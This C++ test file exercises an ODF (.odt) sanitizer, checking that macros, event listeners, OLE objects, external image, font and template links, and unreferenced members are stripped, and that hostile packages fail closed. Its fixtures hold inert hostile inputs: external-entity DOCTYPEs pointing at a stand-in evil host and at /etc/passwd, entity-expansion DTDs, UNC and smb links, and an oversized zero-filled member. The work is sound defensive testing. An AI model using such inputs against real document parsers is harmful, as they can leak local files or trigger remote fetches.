// sanitizer.odf: behaviour on a generated .odt (Basic macros, event listeners, macro links),
// checked with unzip, file(1) and LibreOffice; hostile packages.
#include "sanitizers/odf/odf.h"

#include <algorithm>
#include <catch2/catch.hpp>
#include <chrono>
#include <filesystem>
#include <set>

#include "src/zip/xml_lite.h"
#include "src/zip/zip.h"
#include "support/test_support.h"
#include "support/tools.h"
#include "unit/sanitizers/image_fixtures.h"
#include "unit/sanitizers/office_checks.h"
#include "unit/sanitizers/office_fixtures.h"

using namespace mugai;
using namespace mugai::test::office;
using mugai::sanitizers::odf::OdfSanitizer;
using mugai::sanitizers::odf::Options;

TEST_CASE("odf: an .odt loses Basic, scripts, event listeners and macro links", "[odf]") {
  OdfSanitizer s(Options{});
  Outcome o = runSanitizer(s, odt(), "minutes.odt");
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(o.reason == Reason::CdrRebuilt);
  const Part& out = *o.replacement;
  REQUIRE(hasFinding(o, "removed", "Basic/Standard/Module1.xml"));
  REQUIRE(hasFinding(o, "removed", "content.xml: office:scripts"));
  REQUIRE(hasFinding(o, "removed", "content.xml: office:event-listeners"));
  REQUIRE(hasFinding(o, "removed", "content.xml: text:a macro link"));
  std::string content = zipMemberText(out.data, "content.xml");
  REQUIRE(content.find("vnd.sun.star.script") == std::string::npos);
  REQUIRE(content.find("event-listener") == std::string::npos);
  REQUIRE(content.find("office:scripts") == std::string::npos);
  REQUIRE(content.find("Click text stays") != std::string::npos);
  REQUIRE(content.find("https://example.org/") != std::string::npos);
  std::string manifest = zipMemberText(out.data, "META-INF/manifest.xml");
  REQUIRE(manifest.find("Basic") == std::string::npos);
  REQUIRE(manifest.find("content.xml") != std::string::npos);
  zip::Failure f;
  auto a = zip::Archive::open(out.data, {}, &f);
  REQUIRE(a);
  REQUIRE(a->entries().front().name == "mimetype");
  REQUIRE(a->entries().front().method == 0);
  REQUIRE(out.data.compare(30, 8, "mimetype") == 0);
  REQUIRE(out.data.compare(38, 39, "application/vnd.oasis.opendocument.text") == 0);
  REQUIRE(runSanitizer(s, out.data, "minutes.odt").verdict == Verdict::Pass);  // idempotent

  if (test::toolMissing("unzip")) return;
  test::TempDir tmp;
  auto path = tmp.path() / "minutes.odt";
  test::writeFile(path, out.data);
  if (std::getenv("MUGAI_KEEP_OUT"))
    test::writeFile(std::string(std::getenv("MUGAI_KEEP_OUT")) + "/" + path.filename().string(),
                    out.data);
  requireUnzipOk(path);
  for (const auto& n : unzipNames(path)) {
    INFO(n);
    REQUIRE(n.find("Basic/") == std::string::npos);
    REQUIRE(n.find("Scripts/") == std::string::npos);
  }
  if (!test::toolMissing("file")) {
    auto r = test::runTool({"file", "-b", "--mime-type", path.string()});
    REQUIRE(r.output.find("application/vnd.oasis.opendocument.text") == 0);
    test::writeFile(tmp.path() / "in.odt", odt());
    auto t = test::runTool({"file", "-b", "--mime-type", (tmp.path() / "in.odt").string()});
    REQUIRE(t.output.starts_with("application/vnd.oasis.opendocument.text"));
  }
  std::string text = sofficeText(path, tmp.path());
  if (!text.empty()) {
    REQUIRE(text.find(std::string(kOdtText)) != std::string::npos);
    REQUIRE(text.find("Click text stays") != std::string::npos);
  }
}

TEST_CASE("odf: OLE objects go, their picture stays, ODF charts stay unless asked", "[odf]") {
  Members m = odtMembers();
  m.push_back({"Object 1", "inert OLE placeholder"});
  m.push_back({"ObjectReplacements/Object 1", imgfix::makePng(8, 8, PNG_COLOR_TYPE_RGB, 8)});
  m.push_back(
      {"Object 2/content.xml",
       R"(<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts/></office:document-content>)"});
  m.push_back({"Scripts/python/evil.py", "print('inert')"});
  m.push_back({"Obj102", "inert OLE placeholder under another name"});
  for (auto& [n, d] : m) {
    if (n == "content.xml") {
      auto p = d.find("</office:text>");
      d.insert(
          p,
          R"(<text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:object-ole xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:object-ole xlink:href="./Obj102"/></draw:frame><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:object xlink:href="./Object 2"/></draw:frame></text:p>)");
    }
  }
  OdfSanitizer s(Options{});
  Outcome o = runSanitizer(s, pack(m), "x.odt");
  REQUIRE(o.replacement);
  REQUIRE(hasFinding(o, "removed", "Object 1"));
  REQUIRE(hasFinding(o, "removed", "Scripts/python/evil.py"));
  REQUIRE(hasFinding(o, "removed", "Obj102"));  // found through the element that used it
  REQUIRE(hasFinding(o, "removed", "Object 2/content.xml: office:scripts"));
  REQUIRE_FALSE(hasFinding(o, "removed", "ObjectReplacements/Object 1"));
  std::string content = zipMemberText(o.replacement->data, "content.xml");
  REQUIRE(content.find("draw:object-ole") == std::string::npos);
  REQUIRE(content.find("ObjectReplacements/Object 1") != std::string::npos);
  REQUIRE(zipMemberText(o.replacement->data, "Object 2/content.xml").size() > 0);

  OdfSanitizer strict(Options{false});
  Outcome o2 = runSanitizer(strict, pack(m), "x.odt");
  REQUIRE(o2.replacement);
  REQUIRE(hasFinding(o2, "removed", "Object 2/content.xml"));
}

TEST_CASE("odf: mimetype is written first and stored even when the input had it last", "[odf]") {
  Members m = odtMembers();
  std::rotate(m.begin(), m.begin() + 1, m.end());  // mimetype last
  zip::Writer w;
  for (const auto& [n, d] : m) w.addDeflated(n, d);  // and deflated
  OdfSanitizer s(Options{});
  Outcome o = runSanitizer(s, *w.finish(), "x.odt");
  REQUIRE(o.replacement);
  zip::Failure f;
  auto a = zip::Archive::open(o.replacement->data, {}, &f);
  REQUIRE(a);
  REQUIRE(a->entries().front().name == "mimetype");
  REQUIRE(a->entries().front().method == 0);
}

TEST_CASE("odf: encrypted, broken and hostile packages fail closed", "[odf][adversarial]") {
  OdfSanitizer s(Options{});
  Members m = odtMembers();
  for (auto& [n, d] : m) {
    if (n == "META-INF/manifest.xml") {
      auto p = d.find(
          "<manifest:file-entry manifest:full-path=\"content.xml\" "
          "manifest:media-type=\"text/xml\"/>");
      d.replace(
          p, 84,
          R"(<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/></manifest:file-entry>)");
    }
  }
  REQUIRE(runSanitizer(s, pack(m), "x.odt").reason == Reason::ContentEncrypted);
  REQUIRE(runSanitizer(s, pack({{"content.xml", "<x/>"}}), "x.odt").reason ==
          Reason::ParseMalformed);
  m = odtMembers();
  m[0].second = "application/x-not-odf";
  REQUIRE(runSanitizer(s, pack(m), "x.odt").reason == Reason::ParseMalformed);
  m = odtMembers();
  m[1].second = "<office:document-content><office:scripts>";  // unbalanced
  REQUIRE(runSanitizer(s, pack(m), "x.odt").reason == Reason::ParseMalformed);
  m = odtMembers();
  m.push_back({"/abs/evil", "x"});
  REQUIRE(runSanitizer(s, pack(m), "x.odt").reason == Reason::ParseMalformed);
  m = odtMembers();
  m.push_back({"Pictures/zeros.bin", std::string(4u << 20, '\0')});
  REQUIRE(runSanitizer(s, pack(m), "x.odt").reason == Reason::LimitExpansionRatio);
}

namespace {

constexpr const char* kNs =
    R"( xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2")";

std::string contentXml(const std::string& fonts, const std::string& auto_styles,
                       const std::string& body) {
  return std::string(R"(<?xml version="1.0" encoding="UTF-8"?>)") + "\n<office:document-content" +
         kNs + "><office:font-face-decls>" + fonts +
         "</office:font-face-decls><office:automatic-styles>" + auto_styles +
         "</office:automatic-styles><office:body><office:text>" + body +
         "</office:text></office:body></office:document-content>";
}

std::string stylesXml(const std::string& styles, const std::string& automatic = "",
                      const std::string& master = "") {
  return std::string(R"(<?xml version="1.0" encoding="UTF-8"?>)") + "\n<office:document-styles" +
         kNs + "><office:styles>" + styles + "</office:styles><office:automatic-styles>" +
         automatic + "</office:automatic-styles><office:master-styles>" + master +
         "</office:master-styles></office:document-styles>";
}

std::string metaXml(const std::string& inner) {
  return std::string(R"(<?xml version="1.0" encoding="UTF-8"?>)") + "\n<office:document-meta" +
         kNs + "><office:meta>" + inner + "</office:meta></office:document-meta>";
}

/// A drawing sub-document ("Object 1/content.xml") showing `frames` on one page.
std::string drawingXml(const std::string& frames) {
  return std::string(R"(<?xml version="1.0" encoding="UTF-8"?>)") + "\n<office:document-content" +
         kNs + R"(><office:body><office:drawing><draw:page draw:name="page1">)" + frames +
         "</draw:page></office:drawing></office:body></office:document-content>";
}

std::string frame(const std::string& inner) {
  return R"(<draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">)" + inner +
         "</draw:frame>";
}

std::string image(const std::string& href) {
  return R"(<draw:image xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href=")" +
         href + R"("/>)";
}

/// mimetype first, then `members`, and a manifest listing every one of them (as LibreOffice
/// does) plus `folders` (sub-document entries such as {"Object 1/", "...graphics"}).
std::string odtPackage(const Members& members, const Members& folders = {}) {
  std::string manifest =
      R"(<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.text"/>)";
  auto entry = [&](const std::string& path, const std::string& type) {
    manifest += R"(<manifest:file-entry manifest:full-path=")" + zip::xml::escape(path) +
                R"(" manifest:media-type=")" + type + R"("/>)";
  };
  for (const auto& [n, d] : members) {
    if (n.ends_with("/")) continue;
    entry(n, n.ends_with(".xml")   ? "text/xml"
             : n.ends_with(".png") ? "image/png"
             : n.ends_with(".ttf") ? "application/x-font-ttf"
                                   : "application/octet-stream");
  }
  for (const auto& [path, type] : folders) entry(path, type);
  manifest += "</manifest:manifest>";
  Members all = {{"mimetype", "application/vnd.oasis.opendocument.text"}};
  all.insert(all.end(), members.begin(), members.end());
  all.push_back({"META-INF/manifest.xml", manifest});
  return pack(all);
}

std::string png() { return imgfix::makePng(8, 8, PNG_COLOR_TYPE_RGB, 8); }

/// Every XML member of a package, as `unzip -p` extracts it, concatenated.
std::string allXmlText(const std::filesystem::path& file) {
  std::string all;
  for (const auto& n : unzipNames(file)) {
    if (n.ends_with(".xml") || n.ends_with(".rdf")) all += unzipMember(file, n);
  }
  return all;
}

}  // namespace

TEST_CASE("odf: an OpenOffice.org 2 manifest DOCTYPE is cut out, any other DOCTYPE fails closed",
          "[odf][adversarial]") {
  OdfSanitizer s(Options{});
  auto withDoctype = [](const std::string& doctype) {
    Members m = odtMembers();
    for (auto& [n, d] : m) {
      if (n != "META-INF/manifest.xml") continue;
      std::size_t root = d.find("<manifest:manifest");
      REQUIRE(root != std::string::npos);
      d.insert(root, doctype + "\n");
    }
    return pack(m);
  };
  // As OpenOffice.org 2.x wrote it (27 of LibreOffice's own wizard templates still carry it).
  Outcome o = runSanitizer(
      s,
      withDoctype(
          R"(<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">)"),
      "old.odt");
  INFO(test::findingsText(o) << o.detail);
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(hasFinding(o, "removed", "META-INF/manifest.xml: DOCTYPE"));
  std::string manifest = zipMemberText(o.replacement->data, "META-INF/manifest.xml");
  REQUIRE(manifest.find("<!DOCTYPE") == std::string::npos);
  REQUIRE(manifest.find("content.xml") != std::string::npos);
  REQUIRE(runSanitizer(s, o.replacement->data, "old.odt").verdict == Verdict::Pass);

  // Entities can only be declared in an internal subset; a remote DTD invites a fetch.
  for (const std::string& hostile :
       {std::string(R"(<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>)"),
        std::string(R"(<!DOCTYPE m SYSTEM "http://evil.example/m.dtd">)"),
        std::string(R"(<!DOCTYPE m PUBLIC "-//X//EN" "file:///etc/passwd">)"),
        std::string(R"(<!DOCTYPE m SYSTEM "\\host\share\m.dtd">)"),
        std::string(R"(<!DOCTYPE m SYSTEM "../../m.dtd">)"),
        std::string(R"(<!DOCTYPE m SYSTEM "a" "b" "c">)"),
        std::string(R"(<!DOCTYPE m SYSTEM "m.dtd")")}) {
    INFO(hostile);
    REQUIRE(runSanitizer(s, withDoctype(hostile), "x.odt").reason == Reason::ParseMalformed);
  }
  // The same in content.xml: cut when plain, refused otherwise.
  Members m = odtMembers();
  for (auto& [n, d] : m) {
    if (n != "content.xml") continue;
    d.insert(
        d.find("<office:document-content"),
        R"(<!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "office.dtd">)");
  }
  o = runSanitizer(s, pack(m), "x.odt");
  REQUIRE(hasFinding(o, "removed", "content.xml: DOCTYPE"));
  REQUIRE(zipMemberText(o.replacement->data, "content.xml").find("DOCTYPE") == std::string::npos);
}

TEST_CASE("odf: external images, objects, frames, sections and fonts are cut, text stays",
          "[odf]") {
  std::string fonts =
      R"(<style:font-face style:name="Beacon" svg:font-family="Beacon"><svg:font-face-src><svg:font-face-uri xlink:type="simple" xlink:href="http://evil.example/font.ttf"/></svg:font-face-src></style:font-face>)";
  std::string auto_styles =
      R"(<style:style style:name="P1" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:type="simple" xlink:actuate="onLoad" xlink:href="file://evil.example/share/bg.png"/></style:paragraph-properties></style:style>)";
  std::string body =
      R"(<text:p text:style-name="P1">)" + std::string(kOdtText) + "</text:p><text:p>" +
      frame(image("http://evil.example/beacon.png") + image("Pictures/keep.png")) +
      frame(image(R"(\\evil.example\share\unc.png)")) +
      frame(
          R"(<draw:image xmlns:xl="http://www.w3.org/1999/xlink" xl:href="  HTTP://evil.example/prefix.png"/>)") +
      frame(image("&#104;ttp://evil.example/entity.png")) + frame(image("../../outside.png")) +
      frame(image("//evil.example/share/slashes.png")) +
      frame(R"(<draw:object xlink:href="smb://evil.example/share/obj.odt"/>)") +
      frame(R"(<draw:floating-frame xlink:href="https://evil.example/frame"/>)") +
      R"(</text:p><text:section text:name="S1"><text:section-source xlink:type="simple" xlink:href="file:///C:/secret/other.odt"/><text:p>Cached section text stays</text:p></text:section>)"
      R"(<text:p><text:a xlink:type="simple" xlink:href="file://evil.example/share/doc.odt">File link text stays</text:a> <text:a xlink:type="simple" xlink:href="\\evil.example\share">UNC link text stays</text:a> <text:a xlink:type="simple" xlink:href="https://example.org/page">Web link stays</text:a> <text:a xlink:type="simple" xlink:href="mailto:someone@example.org">Mail link stays</text:a> <text:a xlink:type="simple" xlink:href="#S1">Bookmark link stays</text:a></text:p>)";
  Members m = {
      {"content.xml", contentXml(fonts, auto_styles,
                                 body + "<text:p>" +
                                     frame(R"(<draw:object xlink:href="./Object 1"/>)" +
                                           image("./ObjectReplacements/Object 1")) +
                                     "</text:p>")},
      {"styles.xml",
       stylesXml(
           R"(<draw:fill-image draw:name="Beacon" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="https://evil.example/fill.png"/>)")},
      {"meta.xml",
       metaXml(
           R"(<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:title="T" xlink:href="file://evil.example/share/t.ott"/><meta:auto-reload xlink:href="http://evil.example/reload" meta:delay="PT5S"/><dc:title>Title stays</dc:title>)")},
      {"Pictures/keep.png", png()},
      {"Object 1/content.xml", drawingXml(frame(image("http://evil.example/inner.png")))},
      {"ObjectReplacements/Object 1", png()},
  };
  OdfSanitizer s(Options{});
  Outcome o =
      runSanitizer(s, odtPackage(m, {{"Object 1/", "application/vnd.oasis.opendocument.graphics"}}),
                   "linked.odt");
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(o.replacement);
  for (const char* f :
       {"content.xml: draw:image (linked http://...) x3",
        "content.xml: draw:image (linked \\\\...)", "content.xml: draw:image (linked //...)",
        "content.xml: draw:image (linked ../...)", "content.xml: draw:object (linked smb://...)",
        "content.xml: draw:floating-frame (linked https://...)",
        "content.xml: text:section-source (linked file://...)",
        "content.xml: svg:font-face-uri (linked http://...)",
        "content.xml: style:background-image xlink:href (linked file://...)",
        "content.xml: text:a xlink:href (linked file://...)",
        "content.xml: text:a xlink:href (linked \\\\...)",
        "styles.xml: draw:fill-image xlink:href (linked https://...)",
        "meta.xml: meta:template (linked file://...)",
        "meta.xml: meta:auto-reload (linked http://...)",
        "Object 1/content.xml: draw:image (linked http://...)"}) {
    INFO(f);
    REQUIRE(hasFinding(o, "removed", f));
  }
  const std::string& out = o.replacement->data;
  REQUIRE(runSanitizer(s, out, "linked.odt").verdict == Verdict::Pass);  // idempotent

  if (test::toolMissing("unzip")) return;
  test::TempDir tmp;
  auto path = tmp.path() / "linked.odt";
  test::writeFile(path, out);
  requireUnzipOk(path);
  std::string xml = allXmlText(path);  // read back with unzip, not with our reader
  REQUIRE(xml.find("evil.example") == std::string::npos);
  REQUIRE(xml.find("outside.png") == std::string::npos);
  REQUIRE(xml.find("C:/secret") == std::string::npos);
  for (const char* kept :
       {"Pictures/keep.png", "https://example.org/page", "mailto:someone@example.org", "#S1",
        "Cached section text stays", "File link text stays", "UNC link text stays", "Title stays",
        "./Object 1", "ObjectReplacements/Object 1"}) {
    INFO(kept);
    REQUIRE(xml.find(kept) != std::string::npos);
  }
  auto names = unzipNames(path);
  REQUIRE(std::count(names.begin(), names.end(), "Pictures/keep.png") == 1);
  REQUIRE(std::count(names.begin(), names.end(), "Object 1/content.xml") == 1);
  std::string text = sofficeText(path, tmp.path());
  if (!text.empty()) {
    REQUIRE(text.find(std::string(kOdtText)) != std::string::npos);
    REQUIRE(text.find("Cached section text stays") != std::string::npos);
    REQUIRE(text.find("File link text stays") != std::string::npos);
  }
}

TEST_CASE("odf: internal references, macro URLs and hyperlinks to the web are not external",
          "[odf]") {
  // vnd.sun.star.Package: names a member; "#x" is in the document; a macro URL keeps its own
  // finding; http on a hyperlink stays; "Pictures/../Pictures/x" does not climb out.
  std::string body =
      "<text:p>" + frame(image("vnd.sun.star.Package:Pictures/a.png")) +
      frame(image("Pictures/../Pictures/b.png")) +
      R"(<text:a xlink:href="http://example.org/">web</text:a><draw:a xlink:href="https://example.org/"><draw:frame><draw:image xlink:href="Pictures/c.png"/></draw:frame></draw:a>)"
      R"(<text:a xlink:href="vnd.sun.star.script:Standard.Module1.X?language=Basic&amp;location=document">macro</text:a></text:p>)";
  Members m = {{"content.xml", contentXml("", "", body)},
               {"styles.xml", stylesXml("")},
               {"Pictures/a.png", png()},
               {"Pictures/b.png", png()},
               {"Pictures/c.png", png()}};
  OdfSanitizer s(Options{});
  Outcome o = runSanitizer(s, odtPackage(m), "x.odt");
  REQUIRE(o.replacement);
  REQUIRE(o.findings.size() == 1);
  REQUIRE(hasFinding(o, "removed", "content.xml: text:a macro link"));
  std::string content = zipMemberText(o.replacement->data, "content.xml");
  REQUIRE(content.find("http://example.org/") != std::string::npos);
  REQUIRE(content.find("https://example.org/") != std::string::npos);
  for (const char* p : {"Pictures/a.png", "Pictures/b.png", "Pictures/c.png"}) {
    INFO(p);
    REQUIRE(zipMemberText(o.replacement->data, p).size() > 0);
  }
}

TEST_CASE("odf: members nothing refers to are removed, whatever the manifest says", "[odf]") {
  std::string fonts =
      R"(<style:font-face style:name="Embedded" svg:font-family="Embedded"><svg:font-face-src><svg:font-face-uri xlink:type="simple" xlink:href="Fonts/embedded.ttf"/></svg:font-face-src></style:font-face>)";
  std::string body =
      "<text:p>" + std::string(kOdtText) + "</text:p><text:p>" +
      frame(image("Pictures/content.png")) +
      frame(
          R"(<draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>)") +
      frame(image("./Pictures/a b.png")) + frame(image("Pictures/&#x65E5;&#x672C;.png")) +
      frame(R"(<draw:object xlink:href="./Stream 7"/>)") +  // not a sub-document: an OLE stream
      R"(<text:a xlink:type="simple" xlink:href="Pictures/clicked.exe">A link does not keep a member</text:a></text:p>)";
  std::string content = contentXml(fonts, "", body);
  // A reference inside something removed does not count either.
  content.insert(content.find("<office:font-face-decls>"),
                 R"(<office:scripts><office:script script:language="ooo:Basic">)" +
                     image("Pictures/in-removed.png") + "</office:script></office:scripts>");
  std::string styles = stylesXml(
      R"(<draw:fill-image draw:name="Fill" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="Pictures/fill.png"/>)",
      R"(<style:page-layout style:name="pm1"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm"><style:background-image xlink:type="simple" xlink:actuate="onLoad" xlink:href="Pictures/styles-only.png"/></style:page-layout-properties></style:page-layout>)",
      R"(<style:master-page style:name="Standard" style:page-layout-name="pm1"/>)");
  Members m = {
      {"content.xml", content},
      {"styles.xml", styles},
      {"meta.xml", metaXml("<dc:title>t</dc:title>")},
      {"settings.xml",
       R"(<?xml version="1.0" encoding="UTF-8"?><office:document-settings xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"/>)"},
      {"manifest.rdf",
       R"(<?xml version="1.0" encoding="utf-8"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>)"},
      {"Thumbnails/thumbnail.png", png()},
      {"layout-cache", "inert layout cache"},
      {"Pictures/", ""},
      {"Pictures/content.png", png()},
      {"Pictures/a b.png", png()},
      {"Pictures/\xe6\x97\xa5\xe6\x9c\xac.png", png()},
      {"Pictures/fill.png", png()},
      {"Pictures/styles-only.png", png()},
      {"Fonts/embedded.ttf", std::string("\0\x01\0\0 inert font", 15)},  // sfnt by signature
      {"Fonts/payload.ttf", "MZ not a font"},
      {"Object 1/content.xml",
       drawingXml(frame(image("Pictures/inner.png")) + frame(image("../Pictures/shared.png")))},
      {"Object 1/styles.xml", stylesXml("")},
      {"Object 1/meta.xml", metaXml("")},
      {"Object 1/settings.xml",
       R"(<?xml version="1.0" encoding="UTF-8"?><office:document-settings xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"/>)"},
      {"Object 1/Pictures/inner.png", png()},
      {"Pictures/shared.png", png()},
      {"ObjectReplacements/Object 1", png()},  // found by the object's name
      // Not used by anything that stays:
      {"Pictures/evil.exe", "MZ inert placeholder"},
      {"Pictures/clicked.exe", "MZ inert placeholder"},
      {"Pictures/in-removed.png", png()},
      {"Media/", ""},
      {"Media/payload.hta", "<script>inert</script>"},
      {"evil.exe", "MZ inert placeholder"},
      {"Stream 7", "inert OLE placeholder"},
      {"META-INF/extra.xml", "<x/>"},
      {"Object 9/content.xml", drawingXml(frame(image("../Pictures/orphan-only.png")))},
      {"ObjectReplacements/Object 9", png()},
      {"Pictures/orphan-only.png", png()},
  };
  std::string in = odtPackage(m, {{"Object 1/", "application/vnd.oasis.opendocument.graphics"},
                                  {"Object 9/", "application/vnd.oasis.opendocument.graphics"},
                                  {"Pictures/", ""},
                                  {"Media/", ""}});
  OdfSanitizer s(Options{});
  Outcome o = runSanitizer(s, in, "members.odt");
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(o.replacement);
  const std::set<std::string> gone = {"Pictures/evil.exe",
                                      "Pictures/clicked.exe",
                                      "Pictures/in-removed.png",
                                      "Media/payload.hta",
                                      "evil.exe",
                                      "META-INF/extra.xml",
                                      "Object 9/content.xml",
                                      "ObjectReplacements/Object 9",
                                      "Pictures/orphan-only.png",
                                      "Stream 7",
                                      // neither XML nor a picture (issue 10 class 2)
                                      "Fonts/payload.ttf",
                                      "layout-cache"};
  for (const auto& g : gone) {
    INFO(g);
    REQUIRE((hasFinding(o, "removed", g) || hasFinding(o, "removed", g + " (", true)));
  }
  const std::string& out = o.replacement->data;
  REQUIRE(runSanitizer(s, out, "members.odt").verdict == Verdict::Pass);  // idempotent

  if (test::toolMissing("unzip")) return;
  test::TempDir tmp;
  auto path = tmp.path() / "members.odt";
  test::writeFile(path, out);
  if (std::getenv("MUGAI_KEEP_OUT"))
    test::writeFile(std::string(std::getenv("MUGAI_KEEP_OUT")) + "/" + path.filename().string(),
                    out);
  requireUnzipOk(path);
  std::set<std::string> expected = {"mimetype", "META-INF/manifest.xml"};
  for (const auto& [n, d] : m) {
    if (!gone.count(n) && n != "Media/") expected.insert(n);
  }
  // unzip prints non-ASCII names in the locale's charset: that one is compared by python below.
  const std::string japanese = "Pictures/\xe6\x97\xa5\xe6\x9c\xac.png";
  auto listed = unzipNames(path);
  std::set<std::string> names(listed.begin(), listed.end());
  std::set<std::string> ascii = expected;
  ascii.erase(japanese);
  INFO(test::findingsText(o));
  std::string listed_text;
  for (const auto& n : names) listed_text += n + "\n";
  INFO(listed_text);
  REQUIRE(names.size() == expected.size());
  for (const auto& n : ascii) {
    INFO(n);
    REQUIRE(names.count(n));
  }
  std::string manifest = unzipMember(path, "META-INF/manifest.xml");
  for (const char* absent : {"evil.exe", "clicked.exe", "in-removed", "payload.hta", "Media/",
                             "extra.xml", "Object 9", "orphan-only", "Fonts/payload.ttf"}) {
    INFO(absent);
    REQUIRE(manifest.find(absent) == std::string::npos);
  }
  for (const char* present : {"Object 1/", "Object 1/Pictures/inner.png", "Pictures/shared.png",
                              "Fonts/embedded.ttf", "Pictures/styles-only.png"}) {
    INFO(present);
    REQUIRE(manifest.find(present) != std::string::npos);
  }
  if (!test::toolMissing("python3")) {  // a second, independent ZIP reader
    auto r = test::runTool({"python3", "-c",
                            "import sys,zipfile\nz=zipfile.ZipFile(sys.argv[1])\n"
                            "assert z.testzip() is None\n"
                            "sys.stdout.buffer.write('\\n'.join(z.namelist()).encode())",
                            path.string()});
    REQUIRE(r.exit_code == 0);
    std::set<std::string> py;
    std::size_t st = 0;
    while (st <= r.output.size()) {
      std::size_t nl = r.output.find('\n', st);
      if (nl == std::string::npos) nl = r.output.size();
      py.insert(r.output.substr(st, nl - st));
      st = nl + 1;
    }
    REQUIRE(py == expected);
  }
  std::string text = sofficeText(path, tmp.path());
  if (!text.empty()) REQUIRE(text.find(std::string(kOdtText)) != std::string::npos);
}

TEST_CASE("odf: LibreOffice's own templates lose no member their XML still uses", "[odf]") {
  // Real documents written by LibreOffice (pictures in styles.xml, embedded objects, layout
  // cache); the installation ships them. Skipped when LibreOffice is not installed.
  std::filesystem::path dir = "/usr/lib/libreoffice/share/template";
  std::error_code ec;
  if (!std::filesystem::is_directory(dir, ec) || test::toolMissing("unzip")) {
    WARN("skipped: no LibreOffice templates or no unzip");
    return;
  }
  OdfSanitizer s(Options{});
  test::TempDir tmp;
  int seen = 0, removed_members = 0;
  std::set<std::string> converted;
  for (const auto& e : std::filesystem::recursive_directory_iterator(dir, ec)) {
    std::string ext = e.path().extension().string();
    if (!e.is_regular_file() || ext.size() != 4 ||
        (!ext.starts_with(".ot") && !ext.starts_with(".od")))
      continue;
    INFO(e.path().string());
    ++seen;
    std::string in = test::readFile(e.path());
    Outcome o = runSanitizer(s, in, e.path().filename().string());
    if (o.verdict >= Verdict::PartRemoved) {  // fail closed is allowed; say so
      WARN(e.path().string() << ": " << reasonInfo(o.reason).name << " " << o.detail);
      REQUIRE(o.reason != Reason::InternalError);
      continue;
    }
    if (!o.replacement) continue;
    auto out_path = tmp.path() / ("out" + ext);
    auto in_path = tmp.path() / ("in" + ext);
    test::writeFile(out_path, o.replacement->data);
    test::writeFile(in_path, in);
    requireUnzipOk(out_path);
    auto before = unzipNames(in_path);
    auto after_list = unzipNames(out_path);
    std::set<std::string> after(after_list.begin(), after_list.end());
    std::string xml = allXmlText(out_path);
    for (const auto& n : before) {
      if (after.count(n) || n.ends_with("/")) continue;
      // Gone: nothing kept may still name it (by its file name, as an href would).
      ++removed_members;
      std::string leaf = n.substr(n.rfind('/') + 1);
      INFO("removed " << n);
      std::string why;
      for (const auto& f : o.findings)
        if (f.value.find(leaf) != std::string::npos) why += f.key + " " + f.value + "\n";
      INFO(why);
      if (!leaf.empty() && n.find("Configurations2/") == std::string::npos &&
          !n.starts_with("Basic/"))
        REQUIRE(xml.find(leaf) == std::string::npos);
    }
    if (converted.insert(ext).second) {
      std::filesystem::create_directories(tmp.path() / ext / "a");
      std::filesystem::create_directories(tmp.path() / ext / "b");
      std::string t0 = sofficeText(in_path, tmp.path() / ext / "a");
      std::string t1 = sofficeText(out_path, tmp.path() / ext / "b");
      INFO(t0 << "\n----\n" << t1);
      REQUIRE(t0 == t1);
    }
  }
  WARN("LibreOffice templates: " << seen << " packages, " << removed_members << " members removed, "
                                 << converted.size() << " compared through LibreOffice");
}

TEST_CASE("odf: many references, deep paths and nested objects stay linear", "[odf][adversarial]") {
  // 50,000 pictures (half of them used), 100,000 references (a quarter climbing out through
  // "../" chains), 100 nested sub-documents: must finish inside the message deadline.
  std::string body = "<text:p>";
  std::string climb;
  for (int i = 0; i < 10; ++i) climb += "a/../";
  Members m;
  const std::string tiny = chainPng(1, 1);  // kept as it is: the image chain's own output
